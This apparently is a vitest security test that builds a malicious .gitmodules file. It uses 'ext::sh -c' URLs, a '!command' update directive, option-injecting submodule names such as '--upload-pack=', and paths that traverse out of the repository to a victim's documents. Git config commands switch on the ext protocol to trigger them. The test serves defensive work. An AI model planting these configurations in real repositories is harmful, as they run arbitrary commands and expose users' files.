/** A `.gitmodules` whose addresses are programs, whose paths lead out, and whose names are options. */
import { expect } from 'vitest'
import { attacks } from './attack.fixture.ts'

const attack = attacks()

const modules = (evil: string, documents: string) => `
[submodule "one"]
	path = one
	url = ext::sh -c ${evil}
	update = !${evil}
[submodule "../../../documents"]
	path = ../../../../../user/documents
	url = ${documents}
[submodule "-u./evil"]
	path = -u./evil
	url = --upload-pack=${evil}
	branch = --exec=${evil}
`

attack(
  '[W9] addresses that are programs, paths that lead out, names that are options',
  {
    plays: ({ plant, attempt, evil, victim }) => ({
      develop: [
        [
          plant('declare', `cat > .gitmodules <<'END'\n${modules(evil, victim.documents)}\nEND`),
          plant(
            'link',
            `head=$(git rev-parse HEAD) && mkdir -p one && git -C one init -q &&
             git update-index --add --cacheinfo 160000,$head,one --cacheinfo 160000,$head,-u./evil &&
             git config protocol.ext.allow always && git config submodule.recurse true &&
             git config submodule.one.update '!${evil}' && git config submodule.one.url 'ext::sh -c ${evil}'`,
          ),
          attempt('commit', 'git -c user.name=x -c user.email=x@x commit -qm modules'),
          plant('fire', 'git -c protocol.ext.allow=always ls-remote "ext::sh -c $PWD/../x" ; true'),
        ],
      ],
    }),
  },
  async ({ run, exit }) => {
    expect(['done', 'abandoned']).toContain(await run.end())
    expect(exit('declare')).toBe(0)
  },
)
